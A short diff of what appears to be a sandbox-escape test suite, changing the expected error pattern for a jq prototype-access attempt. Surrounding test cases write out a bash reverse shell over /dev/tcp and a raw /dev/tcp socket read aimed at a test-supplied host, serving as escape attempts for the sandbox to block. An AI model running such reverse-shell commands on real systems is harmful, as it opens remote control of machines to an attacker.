@@ -60,7 +60,7 @@ testEscapes({
     attempt(
       'JavaScript in a query',
       () => `echo '{"a":1}' | jq '.constructor, .__proto__, .a.constructor.constructor'`,
-      /null/,
+      /null|Cannot index/,
     ),
     attempt('a shell that calls back by a device', ({ host }) => `bash -i >& /dev/tcp/${host.replace(':', '/')} 0>&1`),
     attempt('reading from a device of the net', ({ host }) => `exec 3<>/dev/tcp/${host.replace(':', '/')}; cat <&3`),
